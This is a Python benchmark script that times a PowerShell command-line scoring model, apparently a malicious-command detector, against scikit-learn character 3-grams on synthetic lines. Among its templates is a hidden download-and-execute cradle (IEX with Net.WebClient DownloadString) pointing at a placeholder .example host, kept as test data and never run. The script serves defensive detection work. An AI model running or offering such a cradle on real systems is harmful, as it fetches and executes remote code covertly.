"""PowerShell command lines through unwrap, encode and score, beside scikit-learn's 3-grams.

    python benchmarks/powershell.py [--quick] [--lines N] [--model NAME]

The lines are made here: administration and made-up mischief, each written otherwise (re-cased,
renamed, broken, packed), so that hardly two are the same and one in eight is packed. Ours
scores batches in as many processes as there are cores, and then lines one by one in one process,
which gives the times per line. The peer hashes and weighs 3-grams of the lines as they are, in the
same batches and processes, and unwraps nothing. They take turns; the best run of each counts.

Where others use the cores too, time on the clock says how long one waited, not what the work costs:
beside it stands processor time, as lines a processor second times cores, and per line.
"""

import argparse
import json
import multiprocessing
import os
import random
import time
from collections.abc import Callable, Sequence

import numpy as np

from wheeltapper.powershell import models
from wheeltapper.powershell.augment import vary
from wheeltapper.powershell.views import view

BATCH = 256
WORDS = ("report", "backup", "printer", "finance", "sales", "archive", "monitor", "update")
LINES = (
    "powershell -NoProfile -Command \"Get-ChildItem 'C:\\{0}\\{1}' -Recurse | Where-Object "
    '{{$_.LastWriteTime -lt (Get-Date).AddDays(-{2})}} | Remove-Item"',
    "Import-Module ActiveDirectory; Get-ADUser -Filter 'Department -eq \"{0}\"' -Properties mail | "
    "Select-Object Name, mail | Export-Csv 'D:\\{1}\\users{2}.csv' -NoTypeInformation",
    "$s = Get-Service -Name '{0}{2}'; if ($s.Status -ne 'Running') {{ Start-Service $s; "
    "Write-EventLog -LogName Application -Source '{1}' -EventId {2} -Message 'started' }}",
    'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('
    "'http://{0}.example/{1}{2}.txt')\"",
    "Invoke-Command -ComputerName srv{2} -ScriptBlock {{ Restart-Computer -Force }}; "
    "Write-Host 'restarted {0} {1}'",
)


def made(count: int) -> list[str]:
    """So many lines, the same each time."""
    rng = random.Random(1)  # noqa: S311  nothing secret
    lines = []
    while len(lines) < count:
        words = rng.choice(WORDS), rng.choice(WORDS), rng.randrange(1000)
        lines.append(vary(rng.choice(LINES).format(*words), rng))
    return lines


def ours(name: str, lines: Sequence[str]) -> float:
    """Score a batch: the processor seconds that took."""
    began = time.process_time()
    seen = [view(line) for line in lines]
    models.load(name).score([(one.raw, one.plain) for one in seen])
    return time.process_time() - began


_PEER: list[Callable[[Sequence[str]], np.ndarray]] = []


def peer(_name: str, lines: Sequence[str]) -> float:
    """The same with scikit-learn; the weights do not matter for the time."""
    if not _PEER:
        from sklearn.feature_extraction.text import HashingVectorizer

        counting = HashingVectorizer(analyzer="char", ngram_range=(3, 3), n_features=1 << 18)
        weights = np.random.default_rng(1).standard_normal(1 << 18)
        _PEER.append(lambda batch: counting.transform(batch) @ weights)
    began = time.process_time()
    _PEER[0](lines)
    return time.process_time() - began


def lines_per_s(pool, work, name: str, batches: list[list[str]]) -> tuple[float, float]:
    """Over all batches, in all processes: a second on the clock, and a processor second."""
    began = time.perf_counter()
    used = sum(pool.starmap(work, [(name, batch) for batch in batches], chunksize=1))
    lines = sum(map(len, batches))
    return lines / (time.perf_counter() - began), lines / used


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.partition("\n")[0])
    parser.add_argument("--quick", action="store_true")
    parser.add_argument("--lines", type=int, default=20_000)
    parser.add_argument("--model", choices=models.NAMES, default="ensemble")
    options = parser.parse_args()
    count, rounds = (4_000, 2) if options.quick else (options.lines, 3)
    lines = made(count)
    batches = [lines[at : at + BATCH] for at in range(0, count, BATCH)]
    cores = os.cpu_count() or 1
    best = {"ours": (0.0, 0.0), "scikit-learn": (0.0, 0.0)}
    with multiprocessing.get_context("spawn").Pool(cores) as pool:
        for work in (ours, peer):  # loaded, before anything is timed
            pool.starmap(work, [(options.model, lines[:8])] * cores * 2, chunksize=1)
        for _ in range(rounds):
            for label, work in (("ours", ours), ("scikit-learn", peer)):
                rates = lines_per_s(pool, work, options.model, batches)
                best[label] = tuple(map(max, best[label], rates))
    one_by_one, used = [], []
    ours(options.model, lines[:8])
    for line in lines[: min(count, 3_000)]:
        began = time.perf_counter()
        used.append(1e3 * ours(options.model, [line]))
        one_by_one.append(1e3 * (time.perf_counter() - began))
    p50, p99 = np.quantile(one_by_one, [0.5, 0.99])
    cpu_p99 = float(np.quantile(used, 0.99))
    print(f"{count:,} lines of {np.mean([len(x) for x in lines]):.0f} characters, {cores} cores")
    print(f"{'':14}{'lines a second':>16}{'by processor time':>20}")
    for label, (rate, by_cpu) in best.items():
        print(f"{label:14}{rate:16,.0f}{by_cpu * cores:20,.0f}")
    print(
        f"one line alone: median {p50:.2f} ms, 99 of 100 within {p99:.2f} ms; "
        f"of the processor {cpu_p99:.2f} ms"
    )
    figures = {
        "model": options.model,
        "lines_per_s": round(best["ours"][0]),
        "lines_per_s_by_cpu": round(best["ours"][1] * cores),
        "ratio_to_sklearn": round(best["ours"][0] / best["scikit-learn"][0], 3),
        "p50_ms": round(float(p50), 3),
        "p99_ms": round(float(p99), 3),
        "p99_cpu_ms": round(cpu_p99, 3),
    }
    print(json.dumps(figures))


if __name__ == "__main__":
    main()
